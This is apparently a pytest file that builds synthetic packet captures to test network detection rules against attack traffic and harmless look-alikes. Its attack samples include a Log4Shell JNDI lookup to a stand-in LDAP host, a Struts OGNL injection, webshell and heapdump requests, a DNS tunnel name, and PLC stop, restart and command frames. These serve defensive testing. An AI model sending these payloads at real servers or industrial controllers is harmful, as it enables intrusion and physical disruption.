"""The pack on packets: captures made here, octet by octet, that the capture sensor reads into flows and messages."""

import ipaddress
import struct
from collections.abc import Sequence
from pathlib import Path

import pytest

from correlation.matcher.engine import Matcher
from correlation.rules.loading import load_rules
from sensors.capture.handshakes import client_hello
from sensors.event.model import Source
from sensors.reading.detection import detect
from sensors.reading.model import Position
from tests.sensors.capture.protocols import test_kerberos as kerberos
from tests.sensors.capture.protocols import test_quic as quic
from tests.sensors.capture.protocols import test_rdp as rdp
from tests.sensors.capture.protocols import test_smb as smb

PACK = Path(__file__).parents[3] / "correlation" / "pack"
START = 1_795_136_400
SYN, ACK, SYN_ACK, PUSH, FIN = 0x02, 0x10, 0x12, 0x18, 0x11
Packet = bytes


def ip4(protocol: int, source: str, destination: str, body: bytes) -> Packet:
    """An Ethernet frame with an IPv4 packet, RFC 791; checksums are left at zero."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0x4000, 64, protocol, 0)
    addresses = ipaddress.IPv4Address(source).packed + ipaddress.IPv4Address(destination).packed
    return b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00" + head + addresses + body


def udp(source: tuple[str, int], destination: tuple[str, int], body: bytes) -> Packet:
    head = struct.pack("!HHHH", source[1], destination[1], 8 + len(body), 0)
    return ip4(17, source[0], destination[0], head + body)


def tcp_session(client: tuple[str, int], server: tuple[str, int], turns: Sequence[tuple[bytes, bytes]]) -> list[Packet]:
    """A connection from its handshake to its end (RFC 9293): in each turn the client sends and the server answers."""
    mine, theirs = 1_000, 9_000

    def segment(*, up: bool, flags: int, body: bytes = b"") -> Packet:
        one, other = (client, server) if up else (server, client)
        numbers = (mine, theirs) if up else (theirs, mine)
        head = struct.pack("!HHIIBBHHH", one[1], other[1], *numbers, 5 << 4, flags, 65_535, 0, 0)
        return ip4(6, one[0], other[0], head + body)

    packets = [segment(up=True, flags=SYN)]
    mine += 1
    packets.append(segment(up=False, flags=SYN_ACK))
    theirs += 1
    packets.append(segment(up=True, flags=ACK))
    for said, answered in turns:
        packets.append(segment(up=True, flags=PUSH, body=said))
        mine += len(said)
        packets.append(segment(up=False, flags=PUSH, body=answered))
        theirs += len(answered)
    packets += [segment(up=True, flags=FIN), segment(up=False, flags=FIN)]
    return packets


def dns(name: str, kind: int = 1) -> bytes:
    """A query for one name, RFC 1035, section 4."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def router_advertisement(prefix: str, lifetime: int, hops: int = 255) -> Packet:
    """An offer to be the default router, with a prefix of 64 bits, to all nodes (RFC 4861, sections 4.2 and 4.6.2)."""
    option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86_400, 14_400, 0) + ipaddress.IPv6Address(prefix).packed
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, lifetime, 0, 0) + option
    ends = ipaddress.IPv6Address("fe80::bad").packed + ipaddress.IPv6Address("ff02::1").packed
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, hops)
    return b"\x33\x33\x00\x00\x00\x01\x02\x00\x00\x00\x0b\xad\x86\xdd" + head + ends + body


def lease(*options: bytes) -> Packet:
    """What a DHCP server acknowledges (RFC 2131, section 2)."""
    head = struct.pack("!BBBBIHH", 2, 1, 6, 0, 7_007, 0, 0) + bytes(4) + ipaddress.IPv4Address("10.70.1.8").packed
    body = head + bytes(8) + b"\x02\0\0\0\x0a\x0b".ljust(16, b"\0") + bytes(192) + b"\x63\x82\x53\x63\x35\x01\x05"
    return udp(("10.70.1.9", 67), ("10.70.1.8", 68), body + b"".join(options) + b"\xff")


def monlist(items: int) -> list[Packet]:
    """The request for the list of a time server's clients, and its answer (ntpd, ntp_request.h)."""
    asked = bytes([0x17, 0, 3, 42, 0, 0, 0, 0])
    answer = bytes([0x97, 0, 3, 42]) + struct.pack("!HH", items or 4 << 12, 72 if items else 0) + bytes(72 * items)
    client, server = ("203.0.113.77", 40_123), ("10.12.8.20", 123)
    return [udp(client, server, asked), udp(server, client, answer)]


def managed(community: bytes, pdu: int, error: int = 0) -> list[Packet]:
    """A request for a device's name, or to set it, and how it went (RFC 3416, section 3)."""
    bound = b"\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x05\x00\x05\x00"
    packets = []
    for kind, went in ((pdu, 0), (0xA2, error)):
        inner = bytes([2, 1, 7, 2, 1, went, 2, 1, 0]) + bound
        body = b"\x02\x01\x01\x04" + bytes([len(community)]) + community + bytes([kind, len(inner)]) + inner
        ends = (("10.70.1.8", 40_161), ("10.12.8.20", 161))
        packets.append(udp(*(ends if kind == pdu else ends[::-1]), b"\x30" + bytes([len(body)]) + body))
    return packets


def request(line: str, *headers: str) -> bytes:
    return "\r\n".join([f"{line} HTTP/1.1", "Host: synthetic.example", *headers, "", ""]).encode()


OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
TALK = [(b"\0" * 90, b"\0" * 120)] * 3


def web(line: str, *headers: str) -> list[Packet]:
    return tcp_session(("203.0.113.22", 40_000), ("10.60.0.40", 80), [(request(line, *headers), OK)])


def asks(server: str, name: str, kind: int = 1) -> list[Packet]:
    return [udp(("10.70.1.8", 53_311), (server, 53), dns(name, kind))]


def capture(path: Path, packets: Sequence[Packet]) -> Path:
    """A classic pcap file of link type Ethernet."""
    head = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65_535, 1)
    records = [
        struct.pack("<IIII", START, number * 1_000, len(packet), len(packet)) + packet
        for number, packet in enumerate(packets)
    ]
    path.write_bytes(head + b"".join(records))
    return path


@pytest.fixture(scope="module")
def matcher() -> Matcher:
    return Matcher(load_rules([PACK]).telling)


def fired(matcher: Matcher, path: Path) -> set[str]:
    portions = detect(path).portions(path, Source("11" * 16, "capture", path.name), Position(), 0)
    batches = [batch for portion in portions for batch in portion.batches]
    assert batches, "the capture sensor read no event"
    hits = (match for batch in batches for match in matcher.match(batch))
    return {Path(rule.path).stem for match in hits for rule in match.rules}


# IEEE 1815-2012: a link header with its checksum, one block: transport octet, application control, COLD_RESTART.
RESTART = bytes.fromhex("056408c40a000100fc42" "c0c10dd22d")
# RFC 1006, ITU-T X.224, S7comm: a job that stops the program.
STOP = bytes.fromhex("0300002102f080320100000009001000002900000000000950") + b"_PROGRAM"
# IEC 60870-5-104: STARTDT, then a single command to the object 24577 of station 3, to be executed.
COMMAND = bytes.fromhex("680407000000" "680e000000002d010600030001600001")


def ticket(cipher: int) -> list[Packet]:
    """A ticket for a database is asked for and given (RFC 4120, section 3.3)."""
    given = kerberos.reply(0x6D, 13, b"synthetic", *kerberos.SQL, cipher=cipher)
    turns = [(kerberos.record(kerberos.TGS_REQUEST), kerberos.record(given))]
    return tcp_session(("10.31.7.45", 50_331), ("10.31.1.5", 88), turns)


def share(client: str, path: str) -> list[Packet]:
    """A share is connected to (MS-SMB2, section 2.2.9)."""
    asked = smb.session(smb.two(3, 1, smb.connect(path)))
    given = smb.session(smb.two(3, 1, smb.connected(), status=0, tree=1))
    return tcp_session((client, 50_331), ("10.31.1.5", 445), [(asked, given)])


def desktop(chosen: int) -> list[Packet]:
    """Which security a remote desktop is to have (MS-RDPBCGR, section 2.2.1.1)."""
    asked = rdp.connection(0xE0, b"Cookie: mstshash=synthetic\r\n" + rdp.security(1, 3))
    given = rdp.connection(0xD0, rdp.security(2, chosen))
    return tcp_session(("10.31.7.45", 50_331), ("10.31.1.6", 3389), [(asked, given)])


def quic_to(server: str, name: str) -> list[Packet]:
    """The first flight of a client over QUIC (RFC 9001)."""
    hello = client_hello(name, (0x1301, 0x1302))[5:]
    return [udp(("10.31.7.45", 50_331), (server, 443), quic.initial(quic.crypto(0, hello)))]


LONG = f"{'5f3a0011' * 6}.{'8899aabb' * 6}.t.synthetic.example"

ATTACKS = {
    "smb_to_outside": tcp_session(("10.31.7.45", 50_331), ("198.51.100.23", 445), TALK),
    "admin_protocols_from_outside": tcp_session(("203.0.113.77", 51_514), ("10.12.8.20", 3389), TALK),
    "lateral_movement_between_districts": tcp_session(("59.255.12.31", 49_811), ("59.255.88.9", 5985), TALK),
    "controller_port_from_outside": tcp_session(("203.0.113.82", 51_514), ("192.168.70.11", 102), TALK),
    "iec104_from_outside": tcp_session(("59.255.70.4", 51_514), ("192.168.80.4", 2404), TALK),
    "s7_stop_in_capture": tcp_session(("192.168.70.30", 51_514), ("192.168.70.11", 102), [(STOP, b"")]),
    "dnp3_restart_in_capture": [udp(("192.168.60.9", 51_514), ("192.168.60.4", 20_000), RESTART)],
    "iec104_command_from_outside": tcp_session(("59.255.70.4", 51_514), ("192.168.80.4", 20_404), [(COMMAND, b"")]),
    "teredo_flow": [
        udp(("10.70.1.8", 51_000), ("203.0.113.98", 3544), b"\0" * 60),
        udp(("203.0.113.98", 3544), ("10.70.1.8", 51_000), b"\0" * 80),
    ],
    "unregistered_dns_resolver": asks("223.5.5.5", "synthetic-news.example"),
    "out_of_band_probe_domain": asks("10.0.0.53", "synthetic77.s1.dnslog.cn"),
    "dns_tunnel_long_name": asks("10.0.0.53", LONG, 16),
    "encrypted_dns_resolver": quic_to("203.0.113.53", "dns.alidns.com"),
    "remote_control_tool_tls": quic_to("203.0.113.60", "relay-3.todesk.com"),
    "log4shell_probe": web("GET /", "User-Agent: ${jndi:ldap://192.0.2.99/synthetic}"),
    "struts_ognl_injection": web("GET /a.action?redirect:%24%7b%23x%3d%40java.lang.Runtime%40getRuntime()%7d"),
    "webshell_in_upload_folder": web("POST /cms/uploadfile/202611/synthetic7.jsp?c=1", "Content-Length: 0"),
    "spring_actuator_secret_read": web("GET /actuator/heapdump"),
    "kerberos_service_ticket_rc4": ticket(23),
    "smb_administrative_share_used": share("10.31.7.45", r"\\synthetic-dc1\c$"),
    "rdp_without_tls": desktop(0),
    "router_advertisement_unknown_prefix": [router_advertisement("2001:db8:bad::", 1_800)],
    "neighbour_discovery_from_afar": [router_advertisement("2001:db8:bad::", 1_800, 64)],
    "dhcp_gives_outside_resolver": [lease(b"\x06\x04\xcb\x00\x71\x35")],
    "dhcp_routes_all_traffic": [lease(b"\x79\x0c\x01\x00\x0a\x46\x01\x42\x01\x80\x0a\x46\x01\x42")],
    "ntp_monlist_answered": monlist(6),
    "snmp_default_community_read": managed(b"public", 0xA1),
    "snmp_default_community_write": managed(b"private", 0xA3),
}
LEGITIMATE = {
    "smb_inside": tcp_session(("10.31.7.45", 50_331), ("10.31.1.5", 445), TALK),
    "refused_rdp": tcp_session(("203.0.113.77", 51_514), ("10.12.8.20", 3389), [])[:1],
    "https_between_districts": tcp_session(("59.255.12.31", 49_811), ("59.255.88.9", 443), TALK),
    "controller_inside": tcp_session(("192.168.70.2", 51_514), ("192.168.70.11", 102), TALK),
    "stun": [udp(("10.70.1.8", 51_000), ("203.0.113.98", 3478), b"\0" * 60)],
    "registered_forwarder": [udp(("10.0.0.53", 53_311), ("223.5.5.5", 53), dns("synthetic-news.example"))],
    "mail_policy": asks("10.0.0.53", "synthetic._domainkey.mail.example", 16),
    "quic": quic_to("203.0.113.60", "www.todesk.com") + quic_to("203.0.113.60", "portal.synthetic.example"),
    "page": web("GET /cms/uploadfile/202611/synthetic.pdf", "User-Agent: Mozilla/5.0 (synthetic)"),
    "own_prefix": [router_advertisement("fd00:70:1::", 1_800), router_advertisement("2001:db8:bad::", 0)],
    "inside_resolver": [lease(b"\x06\x04\x0a\x00\x00\x35")],
    "monlist_refused": monlist(0),
    "own_community": managed(b"synthetic-own", 0xA3) + managed(b"private", 0xA3, 17),
    "health": web("GET /actuator/health", "User-Agent: kube-probe/1.30"),
    "ticket_by_aes": ticket(18),
    "share_of_files": share("10.31.7.45", r"\\synthetic-files\budget"),
    "administrator_at_work": share("192.168.250.7", r"\\synthetic-dc1\c$"),
    "desktop_by_credssp": desktop(2),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_fires_on_packets(matcher: Matcher, tmp_path: Path, name: str) -> None:
    assert fired(matcher, capture(tmp_path / "made.pcap", ATTACKS[name])) == {name}


@pytest.mark.parametrize("name", LEGITIMATE)
def test_leaves_legitimate_packets_alone(matcher: Matcher, tmp_path: Path, name: str) -> None:
    assert fired(matcher, capture(tmp_path / "made.pcap", LEGITIMATE[name])) == set()
